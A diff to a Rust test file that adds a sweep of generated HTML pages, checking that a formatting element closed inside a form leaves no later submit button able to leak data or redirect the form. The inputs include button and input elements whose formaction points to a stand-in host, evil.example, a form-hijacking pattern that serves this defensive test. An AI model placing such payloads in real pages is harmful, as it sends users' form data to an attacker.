@@ -682,6 +682,59 @@ fn a_submitter_after_a_form_a_formatting_element_reopens_in_gets_no_token() {
     assert_eq!(pages, 1200);
 }
 
+/// The same inside the form: a formatting element opened in the form and closed by another
+/// element's end tag (`<form><p><b>y</p>x</form>`) stays in the list of active ones, the text
+/// or control after that end tag makes it again as the form's child, and the form's `</form>`
+/// leaves it open: a submitter after the form is inside the form (found while writing the
+/// stream's half of the fix above; the form had been held only when a formatting element came
+/// before its start tag). Swept on the page held whole: formatting elements, the elements that
+/// close them inside the form, what comes after, forms, submitters after, both link modes.
+#[test]
+fn a_formatting_element_closed_inside_a_form_keeps_later_submitters_in_it() {
+    let formatting = ["<b>", "<i>", "<a href=/a>", "<font size=2>", "<strong><em>"];
+    let closers = [
+        ("<p>", "</p>"),
+        ("<div>", "</div>"),
+        ("<ul><li>", "</ul>"),
+        ("<p>", "<div>"),
+    ];
+    let inside = ["x", "<input name=n>", "<span>x</span>"];
+    let forms = [
+        ("<form method=post action=/p>", "</form>"),
+        ("<form method=get action=/g>", "</form>"),
+        ("<div><form id=f method=post>", "</form></div>"),
+    ];
+    let after = [
+        "<button formaction=//evil.example/b>go</button>",
+        "<input type=submit formaction=https://evil.example/i>",
+        "<button formmethod=get>go</button>",
+    ];
+    let mut pages = 0;
+    for element in formatting {
+        for (open, close) in closers {
+            for rest in inside {
+                for (form, end) in forms {
+                    for tail in after {
+                        let page = format!("{form}{open}{element}y{close}{rest}{end}{tail}");
+                        for use_get in [false, true] {
+                            if let Some(verdict) =
+                                properties::whole_verdict(page.as_bytes(), use_get)
+                            {
+                                assert!(
+                                    verdict.leaks.is_empty() && verdict.target_changed.is_none(),
+                                    "use_get {use_get}: {page}: {verdict:#?}"
+                                );
+                            }
+                            pages += 1;
+                        }
+                    }
+                }
+            }
+        }
+    }
+    assert_eq!(pages, 1080);
+}
+
 /// An HTML element left open inside an integration point (`<svg><title><form>`): a browser
 /// reads `</title>` there by the "in body" rules, which stop at the special SVG `<title>` and
 /// ignore the tag, so the page goes on inside it, and a later `<title>` is an HTML one whose
